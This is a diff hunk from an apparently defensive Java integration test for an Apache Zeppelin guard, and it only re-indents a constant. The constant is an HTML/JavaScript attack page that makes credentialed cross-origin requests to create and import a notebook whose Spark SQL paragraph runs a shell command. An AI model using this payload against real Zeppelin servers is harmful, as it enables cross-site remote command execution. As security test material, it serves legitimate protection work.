@@ -38,30 +38,30 @@ class ZeppelinGuardIT {
   /** Creates a note that runs a program, runs it, reads the notes, and says what it got. */
   private static final String ATTACK =
       """
-<!doctype html><title>attack</title><body><img src="%1$s"><pre id="got"></pre><script>
-const got = document.getElementById("got");
-const say = (what) => got.append(what + "\\n");
-const note = JSON.stringify({name: "pwned", paragraphs: [{text: "%%spark.sql\\nselect transform(1) using 'touch %3$s'"}]});
-async function attempt(name, path, options) {
-  try {
-    const answer = await fetch("%2$sapi/" + path, options);
-    say(name + " got " + answer.type + " " + await answer.text());
-  } catch (error) {
-    say(name + " failed");
-  }
-}
-const socket = new WebSocket("%4$sws");
-socket.onopen = () => say("socket got open");
-socket.onerror = () => say("socket failed");
-(async () => {
-  await attempt("list", "notebook", {credentials: "include"});
-  await attempt("create", "notebook", {method: "POST", credentials: "include", headers: {"Content-Type": "text/plain"}, body: note});
-  await attempt("import", "notebook/import", {method: "POST", credentials: "include", headers: {"Content-Type": "text/plain"}, body: note});
-  await attempt("blind", "notebook/import", {method: "POST", mode: "no-cors", credentials: "include", body: note});
-  say("attack over");
-})();
-</script>
-""";
+      <!doctype html><title>attack</title><body><img src="%1$s"><pre id="got"></pre><script>
+      const got = document.getElementById("got");
+      const say = (what) => got.append(what + "\\n");
+      const note = JSON.stringify({name: "pwned", paragraphs: [{text: "%%spark.sql\\nselect transform(1) using 'touch %3$s'"}]});
+      async function attempt(name, path, options) {
+        try {
+          const answer = await fetch("%2$sapi/" + path, options);
+          say(name + " got " + answer.type + " " + await answer.text());
+        } catch (error) {
+          say(name + " failed");
+        }
+      }
+      const socket = new WebSocket("%4$sws");
+      socket.onopen = () => say("socket got open");
+      socket.onerror = () => say("socket failed");
+      (async () => {
+        await attempt("list", "notebook", {credentials: "include"});
+        await attempt("create", "notebook", {method: "POST", credentials: "include", headers: {"Content-Type": "text/plain"}, body: note});
+        await attempt("import", "notebook/import", {method: "POST", credentials: "include", headers: {"Content-Type": "text/plain"}, body: note});
+        await attempt("blind", "notebook/import", {method: "POST", mode: "no-cors", credentials: "include", body: note});
+        say("attack over");
+      })();
+      </script>
+      """;
 
   @TempDir static Path folder;
   private static ZeppelinServer zeppelin;
